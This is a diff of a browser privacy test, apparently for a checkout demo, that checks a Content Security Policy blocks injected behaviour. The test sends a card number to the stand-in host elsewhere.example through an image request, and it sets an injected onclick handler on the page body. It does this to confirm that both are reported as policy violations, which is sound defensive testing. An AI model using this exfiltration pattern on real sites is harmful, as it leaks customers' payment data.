@@ -68,16 +68,13 @@ suite('privacy', (town) => {
     await customer.buy();
     await customer.page.evaluate(() => {
       new Image().src = 'https://elsewhere.example/?card=4355093000777068';
-      const button = document.createElement('button');
-      button.setAttribute('onclick', 'window.ran = true');
-      document.body.append(button);
-      button.click();
+      try { document.body.setAttribute('onclick', 'window.ran = true'); } catch { /* trusted types */ }
     });
     await customer.forgiveEventually(/elsewhere\.example/);
-    customer.forgive(/Content Security Policy/, { all: true });
+    customer.forgive(/Content Security Policy|Trusted/, { all: true });
     const { conversationId } = customer.order;
     const order = await eventually(() => town.demo.order(conversationId), ({ violations }) => violations.length >= 2);
-    assert.deepEqual(order.violations.toSorted(), ['img-src', 'script-src-attr']);
+    assert.deepEqual(order.violations.toSorted(), ['img-src', 'require-trusted-types-for']);
     assert.equal(order.callback, null, 'the session goes on');
     await customer.pay(visa);
     await customer.seesReceipt();
